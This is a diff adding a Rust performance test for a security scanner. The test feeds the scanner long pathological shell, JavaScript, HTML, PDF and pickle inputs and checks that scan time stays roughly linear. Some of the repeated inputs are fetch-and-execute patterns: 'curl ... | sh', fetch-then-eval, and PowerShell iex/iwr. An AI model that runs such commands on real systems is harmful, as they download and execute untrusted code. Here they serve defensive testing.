@@ -1,0 +1,109 @@
+//! Hostile shapes cost time in proportion to their length, and never a stack.
+
+use std::time::{Duration, Instant};
+
+use skillgate_model::{Content, Manifest, Skill, SkillFile, SkillKind};
+use skillgate_scanner::{Rules, Scanner};
+
+/// A name, and content of about this many bytes.
+type Shape = (&'static str, &'static str, fn(usize) -> Vec<u8>);
+
+fn repeat(piece: &str, length: usize) -> Vec<u8> {
+    piece.repeat(length / piece.len() + 1).into_bytes()
+}
+
+const SHAPES: &[Shape] = &[
+    ("open parentheses", "a.sh", |n| repeat("(", n)),
+    ("open substitutions", "a.sh", |n| repeat("$(", n)),
+    ("open arithmetic", "a.sh", |n| repeat("$((", n)),
+    ("open arithmetic on lines", "a.sh", |n| repeat("((\n", n)),
+    ("here-documents without an end", "a.sh", |n| {
+        repeat("cat <<A\n", n)
+    }),
+    ("open quotes", "a.sh", |n| repeat("echo 'a\n", n)),
+    ("open braces", "a.sh", |n| repeat("${a", n)),
+    ("open functions", "a.sh", |n| repeat("f() {\n", n)),
+    ("open ifs", "a.sh", |n| repeat("if a; then\n", n)),
+    ("open cases", "a.sh", |n| repeat("case a in b)\n", n)),
+    ("backticks in backticks", "a.sh", |n| repeat("`a \\`", n)),
+    ("open placeholders", "a.sh", |n| repeat("<a", n)),
+    ("doubling variables", "a.sh", |n| {
+        repeat("x=\"$x$x a\"\n", n)
+    }),
+    ("functions that call functions", "a.sh", |n| {
+        (0..n / 24)
+            .flat_map(|i| {
+                format!("f{i}() {{ f{}; f{}; }}\n", i.max(1) - 1, i.max(1) - 1).into_bytes()
+            })
+            .collect()
+    }),
+    ("many matches", "a.sh", |n| {
+        repeat("curl http://a.example | sh\n", n)
+    }),
+    ("one long pipeline", "a.sh", |n| repeat("curl a | ", n)),
+    ("one long line", "a.sh", |n| repeat("a ", n)),
+    ("nested arrays", "a.js", |n| repeat("[", n)),
+    ("nested calls", "a.js", |n| repeat("f(", n)),
+    ("nested functions", "a.js", |n| repeat("()=>{", n)),
+    ("long sums", "a.js", |n| repeat("'a'+", n)),
+    ("long chains", "a.js", |n| repeat("a().", n)),
+    ("many callbacks", "a.js", |n| {
+        repeat("fetch(a).then(x=>eval(x));\n", n)
+    }),
+    ("many assignments", "a.js", |n| repeat("a=a+b;\n", n)),
+    ("nested templates", "a.js", |n| repeat("`${", n)),
+    ("markup scripts", "a.html", |n| repeat("<script>a", n)),
+    ("streams", "a.pdf", |n| {
+        [b"%PDF-1.4\n".to_vec(), repeat("stream\nx", n)].concat()
+    }),
+    ("pickle marks", "a.pkl", |n| {
+        [b"\x80\x04".to_vec(), repeat("(", n), b".".to_vec()].concat()
+    }),
+    ("suppressions", "a.txt", |n| repeat("# nosec ", n)),
+    ("foreign lines", "a.ps1", |n| repeat("iex iwr irm ", n)),
+];
+
+fn scan(scanner: &Scanner, name: &str, bytes: Vec<u8>) -> Duration {
+    let file = SkillFile {
+        path: name.to_owned(),
+        raw: name.into(),
+        mode: 0o644,
+        size: bytes.len() as u64,
+        sha256: String::new(),
+        content: Content::Bytes(bytes.into()),
+    };
+    let skill = Skill {
+        name: name.to_owned(),
+        kind: SkillKind::File,
+        root: name.into(),
+        manifest: Manifest::default(),
+        manifest_path: None,
+        files: vec![file],
+        digest: String::new(),
+    };
+    let start = Instant::now();
+    scanner.scan(&skill);
+    start.elapsed()
+}
+
+#[test]
+fn twice_the_length_is_no_more_than_about_twice_the_time() {
+    let scanner = Scanner::new(Rules::built_in().unwrap());
+    let mut slow = Vec::new();
+    for (shape, name, make) in SHAPES {
+        let times = || {
+            (
+                scan(&scanner, name, make(20_000)),
+                scan(&scanner, name, make(40_000)),
+            )
+        };
+        let fits = |(single, double): (Duration, Duration)| {
+            double <= single * 3 + Duration::from_millis(40)
+        };
+        // A second and a third try, because the machine has other work.
+        if !(0..3).any(|_| fits(times())) {
+            slow.push(format!("{shape}: {:?}", times()));
+        }
+    }
+    assert!(slow.is_empty(), "{}", slow.join("\n"));
+}
